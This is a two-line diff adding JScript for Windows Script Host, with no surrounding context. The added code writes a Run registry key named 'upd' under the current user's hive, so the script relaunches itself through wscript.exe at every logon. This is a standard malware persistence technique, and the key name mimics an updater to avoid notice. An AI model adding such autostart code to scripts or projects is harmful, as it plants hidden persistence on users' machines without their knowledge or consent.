@@ -1,0 +1,2 @@
+var sh = new ActiveXObject("WScript.Shell");
+sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "wscript.exe \"" + WScript.ScriptFullName + "\"", "REG_SZ");
